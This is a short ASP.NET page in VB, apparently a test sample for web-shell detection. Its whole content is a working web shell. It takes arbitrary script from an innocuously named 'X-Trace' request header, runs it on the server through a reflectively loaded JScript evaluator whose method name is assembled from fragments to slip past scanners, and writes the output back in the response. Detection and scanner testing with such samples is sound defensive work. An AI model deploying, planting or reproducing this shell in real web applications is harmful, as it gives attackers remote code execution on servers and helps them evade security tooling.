<%@ Page Language="VB" %>
<script runat="server">
' test sample: the evaluator's name glued from pieces, the script from a request header
Sub Page_Load(sender As Object, e As EventArgs)
    Dim code As String = Request.Headers("X-Trace")
    Dim ev As Type = Type.GetType("Microsoft.JScript.Eval, Microsoft.JScript, Version=10.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a")
    Dim mi = ev.GetMethod("JScript" & "Eval" & "uate", New Type() {GetType(Object), GetType(Microsoft.JScript.Vsa.VsaEngine)})
    Response.Write(mi.Invoke(Nothing, New Object() {code, Microsoft.JScript.Vsa.VsaEngine.CreateEngine()}))
End Sub
</script>
